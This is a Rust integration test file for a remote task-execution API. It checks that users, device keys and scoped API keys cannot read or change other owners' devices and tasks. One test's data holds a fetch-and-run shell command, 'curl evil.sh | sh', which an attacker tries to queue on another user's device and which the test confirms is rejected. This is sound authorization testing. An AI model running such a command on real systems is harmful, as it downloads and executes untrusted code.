//! Ownership of devices and tasks (docs/security.md, docs/limits.md credentials): every device and task route called
//! with another user's id answers 404 exactly like a missing id and changes nothing; a device
//! key reaches only its own device's tasks, even among one owner's devices; an API key is held
//! to its scopes; and each route takes only its own kind of credential (401 otherwise).

use crate::common::{TestServer, assert_lite_error, assert_v1_error, assert_v1_ok};
use crate::queue_util::*;
use serde_json::{Value, json};

struct World {
    s: TestServer,
    alice: String,
    bob: String,
    dev: String,
    key: String,
    task: String,
}

/// Alice (with a device and a pending task) and Bob, both able to own several devices.
fn world() -> World {
    let s = TestServer::start_with(|cfg| cfg.default_plan = "pro".into());
    let (alice, _, _) = s.register("alice@example.com");
    let (bob, _, _) = s.register("bob@example.com");
    let (dev, key) = new_device(&s, &alice, "alice-laptop");
    let task = queue_cmd(&s, &alice, &dev, "echo mine");
    World {
        s,
        alice,
        bob,
        dev,
        key,
        task,
    }
}

#[test]
fn another_users_device_is_404_everywhere_and_unchanged() {
    let w = world();
    let (s, bob) = (&w.s, Some(w.bob.as_str()));
    let before = assert_v1_ok(
        &s.get(&format!("/v1/devices/{}", w.dev), Some(&w.alice)),
        200,
    );
    let base = format!("/v1/devices/{}", w.dev);
    let tries = [
        s.get(&base, bob),
        s.patch_json(&base, bob, json!({"name": "pwned"})),
        s.patch_json(
            &format!("{base}/config"),
            bob,
            json!({"max_concurrent_tasks": 100}),
        ),
        s.post_json(&format!("{base}/rotate-key"), bob, json!({})),
        s.delete(&base, bob),
        s.get(&format!("/v1/tasks?device_id={}", w.dev), bob),
    ];
    for r in &tries {
        assert_v1_error(r, 404, "NOT_FOUND");
    }
    let missing = s.get("/v1/devices/00000000-0000-4000-8000-000000000000", bob);
    assert_eq!(
        missing.body["error"], tries[0].body["error"],
        "same answer as a missing id"
    );
    let after = assert_v1_ok(&s.get(&base, Some(&w.alice)), 200);
    assert_eq!(after["device"]["name"], before["device"]["name"]);
    assert_eq!(after["device"]["config"], before["device"]["config"]);
    assert_eq!(
        after["device"]["key_prefix"],
        before["device"]["key_prefix"]
    );
    let hb = heartbeat(s, &w.key, json!({"status": "online"}));
    assert_eq!(
        hb["pending_count"],
        json!(1),
        "the key still works and the task is there"
    );
}

#[test]
fn another_users_task_is_404_and_unchanged() {
    let w = world();
    let (s, bob) = (&w.s, Some(w.bob.as_str()));
    let t = &w.task;
    assert_v1_error(&s.get(&format!("/v1/tasks/{t}"), bob), 404, "NOT_FOUND");
    assert_v1_error(
        &s.post_json(&format!("/v1/tasks/{t}/cancel"), bob, json!({})),
        404,
        "NOT_FOUND",
    );
    assert_v1_error(
        &s.post_json(&format!("/v1/tasks/{t}/retry"), bob, json!({})),
        404,
        "NOT_FOUND",
    );
    let into_alices = json!({"device_id": w.dev, "command": "curl evil.sh | sh"});
    assert_v1_error(
        &s.post_json("/v1/tasks", bob, into_alices.clone()),
        404,
        "NOT_FOUND",
    );
    let batch = json!({"tasks": [into_alices], "mode": "parallel"});
    assert_v1_error(
        &s.post_json("/v1/tasks/batch", bob, batch),
        404,
        "NOT_FOUND",
    );
    let me = assert_v1_ok(&s.get("/v1/auth/me", Some(&w.alice)), 200);
    let sid = me["current_session"]["id"].as_i64().expect("session id");
    let in_alices_session = json!({"command": "id", "session_id": sid});
    assert_v1_error(
        &s.post_json("/v1/tasks", bob, in_alices_session),
        404,
        "NOT_FOUND",
    );
    assert_eq!(
        assert_v1_ok(&s.get("/v1/tasks", bob), 200)["count"],
        json!(0)
    );
    let list = assert_v1_ok(&s.get("/v1/tasks", Some(&w.alice)), 200);
    assert_eq!(
        ids(&list, "tasks"),
        [t.as_str()],
        "nothing was added to Alice's queue"
    );
    assert_eq!(task(s, &w.alice, t)["status"], json!("pending"));
    assert_eq!(ids(&pending(s, &w.key, "limit=10"), "tasks"), [t.as_str()]);
}

#[test]
fn a_device_key_reaches_only_its_own_devices_tasks() {
    let w = world();
    let s = &w.s;
    let (_, key2) = new_device(s, &w.alice, "alice-desktop");
    let (_, bob_key) = new_device(s, &w.bob, "bob-box");
    assert_eq!(
        pending(s, &key2, "limit=10")["count"],
        json!(0),
        "not for this device"
    );
    assert_eq!(pending(s, &bob_key, "limit=10")["count"], json!(0));
    assert_eq!(
        ids(&pending(s, &w.key, "limit=10"), "tasks"),
        [w.task.as_str()]
    );
    let t = &w.task;
    for k in [&key2, &bob_key] {
        let r = report(s, k, t, json!({"exit_code": 0, "stdout": "forged"}));
        assert_v1_error(&r, 404, "NOT_FOUND");
        let p = s.post_json(
            &format!("/v1/daemon/tasks/{t}/progress"),
            Some(k),
            json!({"progress": 99}),
        );
        assert_v1_error(&p, 404, "NOT_FOUND");
        assert_lite_error(
            &lite_call(s, "GET", &format!("/tasks/{t}"), k, None),
            404,
            "NOT_FOUND",
        );
        let c = lite_call(s, "POST", &format!("/tasks/{t}/cancel"), k, None);
        assert_lite_error(&c, 404, "NOT_FOUND");
        let list = lite(s, "GET", "/tasks", k, None);
        assert_eq!(list["tasks"], json!([]), "{list}");
    }
    let now = task(s, &w.alice, t);
    assert_eq!(
        json!([now["status"], now["progress"], now["stdout"]]),
        json!(["running", 0, Value::Null])
    );
    assert_eq!(
        lite(s, "GET", &format!("/tasks/{t}"), &w.key, None)["status"],
        json!("running")
    );
}

#[test]
fn an_api_key_is_held_to_its_scopes() {
    let w = world();
    let s = &w.s;
    let (_, reader) = s.create_api_key(&w.alice, &["task:read"]);
    let t = &w.task;
    assert_eq!(
        assert_v1_ok(&s.get(&format!("/v1/tasks/{t}"), Some(&reader)), 200)["task"]["id"],
        json!(t)
    );
    let create = s.post_json("/v1/tasks", Some(&reader), json!({"command": "id"}));
    assert_v1_error(&create, 403, "INSUFFICIENT_SCOPE");
    let batch = s.post_json(
        "/v1/tasks/batch",
        Some(&reader),
        json!({"tasks": [{"command": "id"}]}),
    );
    assert_v1_error(&batch, 403, "INSUFFICIENT_SCOPE");
    let cancel = s.post_json(&format!("/v1/tasks/{t}/cancel"), Some(&reader), json!({}));
    assert_v1_error(&cancel, 403, "INSUFFICIENT_SCOPE");
    let device = s.post_json("/v1/devices", Some(&reader), json!({"name": "sneaky"}));
    assert_v1_error(&device, 403, "INSUFFICIENT_SCOPE");
    let lite_create = s.post_json(
        "/tasks",
        Some(&reader),
        json!({"command": "id", "timeout": 1000}),
    );
    assert_lite_error(&lite_create, 403, "INSUFFICIENT_SCOPE");
    assert_eq!(
        assert_v1_ok(&s.get("/v1/tasks", Some(&w.alice)), 200)["count"],
        json!(1)
    );
    assert_eq!(task(s, &w.alice, t)["status"], json!("pending"));
}

#[test]
fn each_route_takes_only_its_kind_of_credential() {
    let w = world();
    let s = &w.s;
    let by_device = s.post_json("/v1/tasks", Some(&w.key), json!({"command": "id"}));
    assert_v1_error(&by_device, 401, "UNAUTHORIZED");
    assert_v1_error(
        &s.get(&format!("/v1/tasks/{}", w.task), Some(&w.key)),
        401,
        "UNAUTHORIZED",
    );
    assert_v1_error(&s.get("/v1/devices", Some(&w.key)), 401, "UNAUTHORIZED");
    let (_, api_key) = s.create_api_key(&w.alice, &["task:read", "task:create", "device:read"]);
    for user_cred in [&w.alice, &api_key] {
        let hb = s.post_json(
            "/v1/daemon/heartbeat",
            Some(user_cred),
            json!({"status": "online"}),
        );
        assert_v1_error(&hb, 401, "UNAUTHORIZED");
        let p = s.get("/v1/daemon/tasks/pending?limit=10", Some(user_cred));
        assert_v1_error(&p, 401, "UNAUTHORIZED");
        let r = report(s, user_cred, &w.task, json!({"exit_code": 0}));
        assert_v1_error(&r, 401, "UNAUTHORIZED");
    }
    let ctl = s.call(
        "GET",
        "/api/control/devices/pending",
        &[("X-Device-Token", &w.alice)],
        None,
    );
    assert_eq!(
        (ctl.status, ctl.body["success"].clone()),
        (401, json!(false)),
        "{}",
        ctl.text
    );
    assert_eq!(
        task(s, &w.alice, &w.task)["status"],
        json!("pending"),
        "nobody claimed it"
    );
}
